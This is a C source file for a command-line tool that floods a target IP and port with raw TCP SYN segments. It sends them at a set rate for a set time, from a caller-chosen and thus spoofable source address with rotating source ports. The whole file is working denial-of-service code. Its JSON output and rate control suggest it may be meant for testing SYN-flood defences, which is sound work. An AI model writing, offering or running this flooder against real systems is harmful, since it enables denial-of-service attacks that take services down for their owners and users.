/* SPDX-License-Identifier: MIT */
/* TCP SYNs at a rate, each from another port: a flood of connections that nobody means to open.
 *
 *   syn SRC-IP DST-IP PORT PER-SECOND SECONDS
 *
 * Prints {"sent": N, "seconds": S}.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 32
#define FIRST_PORT 1024

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static uint16_t checksum(const struct tcphdr *tcp, struct in_addr source, struct in_addr target)
{
	const uint16_t *words = (const uint16_t *)(const void *)tcp;
	uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(*tcp));

	sum += (source.s_addr & 0xffff) + (source.s_addr >> 16);
	sum += (target.s_addr & 0xffff) + (target.s_addr >> 16);
	for (size_t i = 0; i < sizeof(*tcp) / 2; i++)
		sum += words[i];
	sum = (sum >> 16) + (sum & 0xffff);
	return ~(sum + (sum >> 16));
}

int main(int argc, char **argv)
{
	struct sockaddr_in source = { .sin_family = AF_INET }, target = { .sin_family = AF_INET };
	struct tcphdr segments[BATCH];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec vectors[BATCH];
	unsigned long long sent = 0;
	uint16_t port = FIRST_PORT;
	double start, end, per_second;
	int fd;

	if (argc != 6 || inet_pton(AF_INET, argv[1], &source.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[2], &target.sin_addr) != 1)
		errx(2, "usage: SRC-IP DST-IP PORT PER-SECOND SECONDS");
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
	/* It reads nothing: what comes for other sockets must not pile up here. */
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &(int){ 1 }, sizeof(int)) ||
	    bind(fd, (struct sockaddr *)&source, sizeof(source)) ||
	    connect(fd, (struct sockaddr *)&target, sizeof(target)))
		err(1, "a raw socket");
	for (int i = 0; i < BATCH; i++) {
		vectors[i] = (struct iovec){ &segments[i], sizeof(*segments) };
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	per_second = atof(argv[4]);
	start = now();
	end = start + atof(argv[5]);
	for (double at = start; at < end; at = now()) {
		int done;

		if (sent > (at - start) * per_second)
			continue;
		for (int i = 0; i < BATCH; i++) {
			segments[i] = (struct tcphdr){
				.th_sport = htons(port), .th_dport = htons(atoi(argv[3])), .th_flags = TH_SYN,
				.th_off = sizeof(*segments) / 4, .th_win = htons(64240),
			};
			segments[i].th_sum = checksum(&segments[i], source.sin_addr, target.sin_addr);
			port = port < UINT16_MAX ? port + 1 : FIRST_PORT;
		}
		done = sendmmsg(fd, messages, BATCH, 0);
		if (done > 0)
			sent += done;
	}
	printf("{\"sent\": %llu, \"seconds\": %.6f}\n", sent, now() - start);
	return 0;
}
